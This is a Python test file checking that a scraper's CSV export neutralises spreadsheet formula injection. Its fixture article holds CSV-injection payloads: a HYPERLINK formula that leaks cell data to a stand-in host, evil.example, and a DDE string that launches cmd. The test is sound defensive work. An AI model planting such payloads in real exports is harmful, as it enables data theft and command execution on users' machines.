"""`export --format csv` opens in a spreadsheet as text: a scraped cell that starts like a
formula (= + - @ tab) gets a leading apostrophe; numbers and ordinary text stay as they are."""

from __future__ import annotations

import csv
import io

import yaml
from talentwatch.core.records import Article
from talentwatch.storage.articles import save_article

from tests.cli_runner import invoke

HOSTILE = Article(
    url="http://127.0.0.1/rcgz/content/post_7.html", site="青禾组工网",
    title='=HYPERLINK("http://evil.example/x?d="&A1,"点击查看申报指南")',
    source="+86-20-83338888", author="@SUM(1+1)*cmd|' /C calc'!A0", editor="\t=1+1",
    text="-2026年度人才补贴名单见附件。", published="2026-11-18T09:30:00+08:00",
    talent=True, score=-0.25, topics=["人才引进"])
PLAIN = Article(url="http://127.0.0.1/rcgz/content/post_8.html", site="青禾组工网",
                title="关于发放2026年度人才安家补贴的公示", text="公示期为五个工作日。",
                source="青禾县委组织部", published="2026-11-17T09:00:00+08:00", talent=True, score=0.8)


def exported_rows(db, tmp_path) -> dict[str, dict[str, str]]:
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"database": str(tmp_path / "archive.db"), "sites": []}),
                      encoding="utf-8")
    result = invoke(["--config", str(config), "export", "--format", "csv"])
    assert result.returncode == 0, result.stderr
    return {row["url"]: row for row in csv.DictReader(io.StringIO(result.stdout))}


def test_cells_that_would_run_as_formulas_are_text(db, tmp_path) -> None:
    save_article(db, HOSTILE)
    save_article(db, PLAIN)
    rows = exported_rows(db, tmp_path)
    hostile, plain = rows[HOSTILE.url], rows[PLAIN.url]
    assert hostile["title"] == "'" + HOSTILE.title
    assert hostile["source"] == "'+86-20-83338888"
    assert hostile["author"] == "'" + HOSTILE.author
    assert hostile["editor"] == "'\t=1+1"
    assert hostile["text"] == "'-2026年度人才补贴名单见附件。"
    assert hostile["score"] == "-0.25"  # a number is not text: a spreadsheet reads it as -0.25
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    text_cells = [v for k, v in hostile.items() if k != "score"]
    assert not [v for v in text_cells if v.startswith(formula_starts)]
    # ordinary cells are untouched
    assert plain["title"] == PLAIN.title and plain["source"] == "青禾县委组织部"
    assert plain["published"].startswith("2026-11-17") and plain["topics"].startswith("[")
